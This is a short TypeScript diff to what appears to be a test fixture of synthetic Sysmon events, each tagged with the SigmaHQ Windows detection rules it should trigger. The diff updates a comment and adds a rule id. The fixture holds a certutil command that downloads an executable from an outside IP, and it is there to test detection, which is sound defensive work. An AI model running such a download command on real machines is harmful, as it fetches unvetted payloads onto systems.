@@ -13,7 +13,7 @@ type Doc = Record<string, unknown>;
 
 export interface ShapedEvent {
   name: string;
-  /** Ids of SigmaHQ rules (windows pipeline) this event is written to trigger. */
+  /** Ids (sorted) of the SigmaHQ rules under rules/windows this event triggers, and no others. */
   expectedRules: string[];
   shapes: Record<string, Doc | string>;
 }
@@ -23,7 +23,7 @@ const CERTUTIL_CMD = 'certutil.exe -urlcache -split -f http://203.0.113.7/a.exe 
 
 const certutil: ShapedEvent = {
   name: 'Sysmon 1: certutil downloads a file',
-  expectedRules: ['19b08b1c-861d-4e75-a1ef-ea0c1baf202b'],
+  expectedRules: ['13e6fe51-d478-4c7e-b0f2-6da9b400a829', '19b08b1c-861d-4e75-a1ef-ea0c1baf202b'],
   shapes: {
     evtx_dump: {
       Event: {
